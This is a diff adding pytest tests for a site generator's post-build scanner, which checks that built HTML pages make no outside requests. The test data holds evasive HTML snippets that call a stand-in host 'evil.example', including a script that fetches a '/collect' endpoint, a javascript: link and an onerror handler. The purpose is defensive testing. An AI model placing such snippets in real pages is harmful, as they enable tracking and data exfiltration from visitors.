@@ -1,0 +1,49 @@
+"""Issue 12 finding 5: the post-build scan parses HTML as a browser does and finds every form of an
+outside request; a URL cited in prose is not a request. And every page carries the CSP."""
+
+from __future__ import annotations
+
+import pytest
+
+from generator.site.scan import scan_site
+
+REQUESTS = [
+    '<img src="\\\\host/x.png">',
+    '<img src="https&#58;//evil.example/x.png">',
+    '<img src="x.png" srcset="a.png 1x, https://evil.example/b.png 2x">',
+    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    "<script>fetch('https://evil.example/collect')</script>",
+    '<img src="//evil.example/x.png">',
+    '<div style="background:url(https://evil.example/bg.png)"></div>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<form action="http://evil.example/post"></form>',
+    '<img src=" https://evil.example/x.png">',
+    '<svg><image xlink:href="https://evil.example/x.png"/></svg>',
+    '<img src="x" onerror="fetch(\'//evil.example:8080/x\')">',
+]
+
+
+@pytest.mark.parametrize("html", REQUESTS)
+def test_each_form_of_request_is_found(tmp_path, html):
+    (tmp_path / "index.html").write_text(f"<html><head></head><body>{html}</body></html>", encoding="utf-8")
+    found = scan_site(tmp_path)
+    assert [rel for rel, _ in found] == ["index.html"], found
+
+
+def test_prose_and_local_urls_are_not_requests(tmp_path):
+    (tmp_path / "index.html").write_text(
+        "<p>来源：https://www.gov.cn/zhengce/2020-01/01/content_1.htm 与 http://example.org/a</p>"
+        '<a href="../handbooks/">x</a><img src="assets/x.png" srcset="a.png 1x, b.png 2x"><img src="data:image/png;base64,AA==">'
+        '<svg xmlns="http://www.w3.org/2000/svg"></svg><a href="#top">t</a><a href="mailto:hr@example.org">m</a>'
+        '<script id="__config" type="application/json">{"base": "https://not-run.example"}</script>',
+        encoding="utf-8")
+    (tmp_path / "search").mkdir()
+    (tmp_path / "search" / "search_index.json").write_text(
+        '{"docs": [{"location": "handbooks/s1/", "text": "来源 https://www.gov.cn/x"}]}', encoding="utf-8")
+    assert scan_site(tmp_path) == []
+
+
+def test_search_index_locations_are_checked(tmp_path):
+    (tmp_path / "search_index.json").write_text('{"docs": [{"location": "https://evil.example/", "text": ""}]}', encoding="utf-8")
+    assert scan_site(tmp_path) == [("search_index.json", "https://evil.example/")]
